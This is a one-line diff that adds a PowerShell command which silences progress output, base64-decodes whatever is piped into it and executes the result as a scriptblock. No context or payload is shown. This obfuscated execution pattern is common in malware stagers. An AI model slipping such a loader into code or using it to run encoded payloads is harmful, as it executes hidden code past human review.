@@ -1,0 +1,1 @@
+$ProgressPreference='SilentlyContinue';&([scriptblock]::Create([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String(($input|Out-String).Trim()))))
